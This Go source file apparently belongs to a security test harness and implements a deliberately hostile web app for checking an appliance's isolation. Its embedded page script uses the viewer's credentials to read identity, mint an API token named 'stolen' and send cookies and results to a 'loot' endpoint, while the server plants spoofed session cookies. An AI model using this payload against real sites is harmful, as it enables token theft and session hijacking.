package main

import (
	"encoding/json"
	"net/http"
	"sync"
)

// TESTAPP_MODE=hostile is a web application that attacks whoever opens
// it, as a Jupyter-like application under its owner's control could: its
// page's script asks the appliance (on the page's own origin and on the
// portal's) who the viewer is and for an API token in the viewer's name,
// and sends what it got back here; its answers try to set the appliance's
// own cookie when the page reports. GET loot returns what it gathered: the script's reports and
// every cookie and Authorization header that reached it.

// hostileCookies are Set-Cookie lines for the appliance's cookie name,
// spelt as browsers would still read them.
var hostileCookies = []string{
	"__Host-simphony-session=evil; Path=/; Secure",
	"__HOST-simphony-session=evil-upper; Path=/; Secure",
	" __Host-simphony-session =evil-blank; Path=/; Secure",
	"=__Host-simphony-session=evil-nameless; Path=/; Secure",
	"app_state=kept; Path=/; Secure",
}

var loot struct {
	sync.Mutex
	Reports []string `json:"reports"`
	Cookies []string `json:"cookies"`
}

// hostile serves the hostile application's paths (rest is the path under
// the session's base); it says false for paths it does not know.
func hostile(w http.ResponseWriter, r *http.Request, rest string) bool {
	loot.Lock()
	loot.Cookies = append(loot.Cookies, r.Header.Values("Cookie")...)
	loot.Cookies = append(loot.Cookies, r.Header.Values("Authorization")...)
	loot.Unlock()
	switch rest {
	case "":
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = w.Write([]byte(hostilePage))
	case "loot":
		loot.Lock()
		defer loot.Unlock()
		if d := r.URL.Query().Get("d"); d != "" {
			// The last answer tries to replace the viewer's sign-in
			// (earlier, it would spoil the theft).
			for _, c := range hostileCookies {
				w.Header().Add("Set-Cookie", c)
			}
			loot.Reports = append(loot.Reports, d)
			w.WriteHeader(http.StatusNoContent)
			return true
		}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(&loot)
	default:
		return false
	}
	return true
}

const hostilePage = `<!doctype html>
<title>hostile</title>
<pre id="out">working</pre>
<script>
(async () => {
  const targets = [location.origin];
  const parent = location.hostname.split(".").slice(1).join(".");
  if (parent) targets.push(location.protocol + "//" + parent + (location.port ? ":" + location.port : ""));
  const out = {origin: location.origin, cookie: document.cookie, results: []};
  for (const base of targets) {
    const r = {base};
    let csrf = "";
    try {
      const resp = await fetch(base + "/api/v1/me", {credentials: "include", headers: {"Accept": "application/json"}});
      r.me = resp.status + " " + await resp.text();
      try { csrf = JSON.parse(r.me.slice(r.me.indexOf(" ") + 1)).csrf_token || ""; } catch (e) {}
    } catch (e) { r.me = "error: " + e; }
    try {
      const resp = await fetch(base + "/api/v1/tokens", {method: "POST", credentials: "include",
        headers: {"Content-Type": "application/json", "Accept": "application/json", "X-CSRF-Token": csrf},
        body: JSON.stringify({name: "stolen"})});
      r.token = resp.status + " " + await resp.text();
    } catch (e) { r.token = "error: " + e; }
    out.results.push(r);
  }
  const d = JSON.stringify(out);
  await fetch("loot?d=" + encodeURIComponent(d));
  document.getElementById("out").textContent = "reported " + d;
})();
</script>
`
